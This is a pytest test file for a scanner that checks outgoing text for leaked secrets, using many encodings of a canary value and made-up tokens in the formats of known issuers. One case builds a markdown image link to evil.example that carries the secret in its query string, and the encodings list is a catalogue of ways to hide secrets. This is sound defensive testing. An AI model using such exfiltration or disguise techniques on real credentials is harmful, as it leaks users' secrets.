"""What the scanner of outgoing text finds, and what it lets pass."""

from __future__ import annotations

import base64
import codecs
import gzip
import io
import json
import re
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from adw_modules.security.leaks import KNOWN, MOST_HITS, OVERLAP, Scanner, without_tokens
from adw_modules.security.tokens import is_made_up, is_random, issued

SECRET = "s3cr3t/Zq+canary-Vx81-kLmN=9pQ"
SCANNER = Scanner([SECRET])
WINDOW = 150_000


def in_pieces(size: int, glue: str) -> str:
    return glue.join(SECRET[at : at + size] for at in range(0, len(SECRET), size))


def zipped() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("notes.txt", f"the key: {SECRET}\n" * 3)
    return made.getvalue()


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


SPELLED: dict[str, str | bytes] = {
    "as it is": SECRET,
    "in a sentence": f"please note {SECRET}, thank you",
    "in JSON": json.dumps({"a": SECRET}),
    "in an address of an image": f"![x](https://evil.example/p.png?d={quote(SECRET, safe='')})",
    "all percent": "".join(f"%{ord(char):02X}" for char in SECRET),
    "base64": b64(SECRET.encode()),
    "base64, begun by one byte": b64(b"x" + SECRET.encode() + b"yz"),
    "base64, begun by two bytes": b64(b"xy" + SECRET.encode() + b"z"),
    "base64 for addresses": base64.urlsafe_b64encode(b"?>" + SECRET.encode()).decode(),
    "base64 in lines": base64.encodebytes(b"begin " * 20 + SECRET.encode() * 3).decode(),
    "base64, reversed": b64(SECRET.encode())[::-1],
    "base64 of the reversed": b64(SECRET[::-1].encode()),
    "base32": base64.b32encode(SECRET.encode()).decode(),
    "hexadecimal": SECRET.encode().hex(),
    "hexadecimal, large": SECRET.encode().hex().upper(),
    "hexadecimal, in pairs": SECRET.encode().hex(" "),
    "hexadecimal, as C has it": "".join(f"\\x{ord(char):02x}" for char in SECRET),
    "hexadecimal, as a list": ", ".join(f"0x{ord(char):02X}" for char in SECRET),
    "as unicode escapes": "".join(f"\\u00{ord(char):02x}" for char in SECRET),
    "as HTML": "".join(f"&#x{ord(char):x};" for char in SECRET),
    "as HTML numbers": "".join(f"&#{ord(char)};" for char in SECRET),
    "as numbers": str(list(SECRET.encode())),
    "as calls of chr": "+".join(f"chr({ord(char)})" for char in SECRET),
    "as octal escapes": "".join(f"\\{ord(char):o}" for char in SECRET),
    "reversed": SECRET[::-1],
    "rotated": codecs.encode(SECRET, "rot13"),
    "added up": '"' + in_pieces(5, '" + "') + '"',
    "one letter a line": "\n".join(SECRET),
    "spaced": " ".join(SECRET),
    "with invisible characters": "\u200b".join(SECRET),
    "in lines of a comment": "# " + in_pieces(7, "\n# "),
    "in named pieces": "\n".join(
        f'part_{n} = "{SECRET[at : at + 6]}"' for n, at in enumerate(range(0, len(SECRET), 6))
    ),
    "reversed in named pieces": "\n".join(
        f"{n}: {SECRET[::-1][at : at + 5]}" for n, at in enumerate(range(0, len(SECRET), 5))
    ),
    "two bytes a character": SECRET.encode("utf-16-le"),
    "gzip": gzip.compress(SECRET.encode() * 5),
    "zlib": zlib.compress(SECRET.encode() * 5),
    "zip": zipped(),
    "zip behind other bytes": b"\x89PNG" + zipped(),
    "base64 of gzip": b64(gzip.compress(b"so: " + SECRET.encode() * 5)),
    "base64 of gzip in lines": base64.encodebytes(gzip.compress(b"so: " + SECRET.encode() * 5)).decode(),
    "base64 of zlib": b64(zlib.compress(SECRET.encode() * 5)),
    "base64 of zip": b64(zipped()),
    "gzip of base64": gzip.compress(b64(SECRET.encode()).encode()),
}


@pytest.mark.parametrize("how", SPELLED)
def test_a_known_secret_is_found_however_it_is_spelled(how: str) -> None:
    spelled = SPELLED[how]
    data = spelled.encode() if isinstance(spelled, str) else spelled
    alone = SCANNER.scan([data])
    assert [hit.rule.startswith(KNOWN) for hit in alone[:1]] == [True]
    if isinstance(spelled, str):
        amid = SCANNER.scan([b"first line\nsecond\n" + data + b"\nlast: nothing\n"])
        assert amid[0].line >= 3
        assert SECRET not in amid[0].rule


@pytest.mark.parametrize("how", ["as it is", "base64", "hexadecimal", "spaced", "in named pieces"])
def test_nothing_is_found_where_one_character_is_another(how: str) -> None:
    spelled = SPELLED[how]
    assert isinstance(spelled, str)
    at = len(spelled) // 2
    changed = spelled[:at] + ("Q" if spelled[at] != "Q" else "R") + spelled[at + 1 :]
    if changed[at - 1 : at + 2].isalnum():
        assert SCANNER.scan([changed.encode()]) == []


TOKENS: dict[str, str] = {
    "a GitHub token": "ghp_" + "aB3dE9fGh1JkLm2NoPq4RsT6uVwX8yZ0aBcD",
    "an Anthropic key": "sk-ant-api03-" + "Xy9Zq1w2E3r4T5y6U7i8O9p0_A-s",
    "an OpenRouter key": "sk-or-v1-" + "4f8a1c9e2b7d6035" * 4,
    "an OpenAI key": "sk-proj-" + "Xy9Zq1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8",
    "an AWS key": "AKIA" + "Z7QK4MNB2XWP5RTC",
    "a Slack token": "xoxb-" + "204817392655-7718290365521-qWxYz81Kd",
    "a Slack webhook": "https://hooks.slack.com/services/T0A1B2C3D/B9Z8Y7X6W/" + "q1W2e3R4t5Y6u7I8o9P0aSdF",
    "a Google API key": "AIza" + "SyD3k9_fQw8ErT7yUi6OpAs5DfGh4JkLz1X",
    "an npm token": "npm_" + "aB3dE9fGh1JkLm2NoPq4RsT6uVwX8yZ0aBcD",
    "a PyPI token": "pypi-AgEI" + "cHlwaS5vcmcCJDk4ZTk1ZjM1LTQ5YjAtNGI1ZC1hYjQ2LWM2ZTk4",
    "a GitLab token": "glpat-" + "x9Kq2Wm7Vb4Tz6Rn1LpS",
    "a Hugging Face token": "hf_" + "qWeRtYuIoPaSdFgHjKlZxCvBnMqWeRtYuI",
    "a Stripe key": "sk_live_" + "51HqWxYz8Kd92Lm4Np7Qr",
    "a private key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7v1kq8Zb3XnW5tYp2RsLd9GmCfHjKeQa\n",
    "a signed token (JWT)": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJxdzEyIn0.Zt7Qk1mW9xB4nV2cL8pR5sD3fG6hJ0aYuTe",
    "a random value with the name of a key": 'API_SECRET = "q7Zp2Xw9Lk4Vn8Rt1Bm6Yc3"',
}


@pytest.mark.parametrize("kind", TOKENS)
def test_tokens_of_known_issuers_are_found_without_knowing_them(kind: str) -> None:
    for text in (f"{TOKENS[kind]}\n", f"x = 1\n  {TOKENS[kind]} # here\n"):
        assert kind in [hit.rule for hit in Scanner().scan([text.encode()])]


def test_a_token_in_base64_and_a_service_account_are_found() -> None:
    wrapped = b64(f"token: {TOKENS['a GitHub token']}".encode())
    account = json.dumps({"type": "service_account", "private_key": TOKENS["a private key"]})
    assert Scanner().holds(f"data {wrapped}") == "a GitHub token, compressed or encoded"
    assert Scanner().holds(account) == "a private key"


@pytest.mark.parametrize(
    "text",
    [
        "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "AKIAIOSFODNN7EXAMPLE",
        "sk-ant-your-key-goes-here-please-now",
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
        'token_hash = "q7Zp2Xw9Lk4Vn8Rt1Bm6Yc3"',
        'integrity="sha512-q7Zp2Xw9Lk4Vn8Rt1Bm6Yc3q7Zp2Xw9Lk4Vn8Rt1Bm6Yc3"',
        "token = get_token_from_environment_or_fail()",
        'password = "correct-horse-battery-staple"',
        "commit 4f8a1c9e2b7d60354f8a1c9e2b7d60354f8a1c9e",
        "risk-proj-management and task-list of the board",
    ],
)
def test_what_is_plainly_made_up_or_no_key_is_let_pass(text: str) -> None:
    assert Scanner().holds(text) is None


def test_nothing_appended_to_a_real_token_makes_it_look_made_up() -> None:
    for tail in ("EXAMPLE", "xxxxxxxxxxxx", "0123456789abcdefgh"):
        assert Scanner().holds(TOKENS["a GitHub token"] + tail)


def test_our_own_sources_hold_nothing_but_the_examples_of_this_file() -> None:
    root = Path(__file__).parents[2]
    files = [path for folder in ("coordinator", "adw_modules", "docs") for path in (root / folder).rglob("*")]
    found = {path for path in files if path.is_file() and path.suffix in {".py", ".md", ".json", ".toml"}
             and SCANNER.scan([path.read_bytes()])}  # fmt: skip
    assert len(files) > 100
    assert found == set()


def test_a_value_shorter_than_eight_characters_is_not_looked_for() -> None:
    assert Scanner(["abc1234"]).holds("abc1234") is None
    assert Scanner(["abc12345"]).holds("abc12345") == KNOWN


def test_each_long_line_of_a_secret_of_several_lines_is_a_secret() -> None:
    key = "-----BEGIN X-----\nMIIEowIBAAKCAQEA7v1kq8Zb\nsLd9GmCfHjKeQa0123zzYY77uuPP1\n-----END X-----"
    assert Scanner([key]).holds("so sLd9GmCfHjKeQa0123zzYY77uuPP1 it is")
    assert Scanner([key]).holds("-----BEGIN X-----") is None


@pytest.mark.parametrize("at", [0, WINDOW - 10, WINDOW - OVERLAP - 10, WINDOW + 5, 2 * WINDOW - 3])
def test_a_large_text_is_looked_at_in_windows_and_its_lines_are_counted(at: int) -> None:
    filler = b"filler line\n" * ((2 * WINDOW + 100) // 12)
    begin = filler[:at].rfind(b"\n") + 1
    data = filler[:begin] + SECRET.encode() + b"\n" + filler[begin:]
    chunks = (data[start : start + 9_973] for start in range(0, len(data), 9_973))
    (hit, *_) = SCANNER.scan(chunks, window=WINDOW)
    assert (hit.rule, hit.line) == (KNOWN, data.count(b"\n", 0, begin) + 1)


def test_the_number_of_finds_is_bounded() -> None:
    many = "\n".join(f"key_{n} = ghp_{'aB3dE9fGh1JkLm2NoPq4RsT6uVwX8yZ0aBcD'}" for n in range(500))
    assert len(Scanner().scan([many.encode()])) == MOST_HITS


@pytest.mark.parametrize(
    "hostile",
    [
        b"H4sIAAAAAAAA" * 10_000,
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" * 10_000,
        b"PK\x03\x04" * 25_000,
        b"s3cr" * 25_000,
        gzip.compress(bytes(6 << 20), mtime=0),
        b"eyJ" * 30_000,
        b"= '" * 30_000,
        b"-----BEGIN PRIVATE KEY-----" * 4_000,
        b"xoxb-" * 20_000,
    ],
    ids=lambda data: repr(data[:12]),
)
def test_a_hostile_text_takes_no_longer_than_its_size_allows(hostile: bytes) -> None:
    began = time.monotonic()
    SCANNER.scan([hostile])
    assert time.monotonic() - began < 5


def test_only_tokens_are_taken_out_of_a_quote() -> None:
    token = TOKENS["a GitHub token"]
    assert without_tokens(f"I used {token}, ü.", "[redacted]") == "I used [redacted], ü."
    assert without_tokens("nothing here", "[redacted]") == "nothing here"


@settings(max_examples=60, deadline=None)
@given(
    st.text(alphabet=st.characters(min_codepoint=33, max_codepoint=126), min_size=16, max_size=60),
    st.binary(max_size=40),
    st.binary(max_size=40),
    st.sampled_from([bytes, base64.b64encode, lambda raw: raw.hex().encode(), lambda raw: raw[::-1]]),
)
def test_any_value_is_found_between_any_bytes(
    value: str, before: bytes, after: bytes, spell: Callable[[bytes], bytes]
) -> None:
    spelled = spell(value.encode())
    # Encoded, a few different characters again and again would be found by chance: they are not looked for.
    assume(sorted(spelled) == sorted(value.encode()) or min(len(set(value)), len(set(spelled))) >= 6)
    assert any(hit.rule.startswith(KNOWN) for hit in Scanner([value]).scan([before + spelled + after]))


def test_random_is_told_from_written() -> None:
    assert is_random(b"q7Zp2Xw9Lk4Vn8Rt1Bm6Yc3")
    assert not is_random(b"getTheTokenOfTheServerV2")
    assert is_made_up(b"xxxxxxxxxxxxxxxx")
    assert not list(issued(re.sub(rb"\s", b"", b"ghp_ short")))
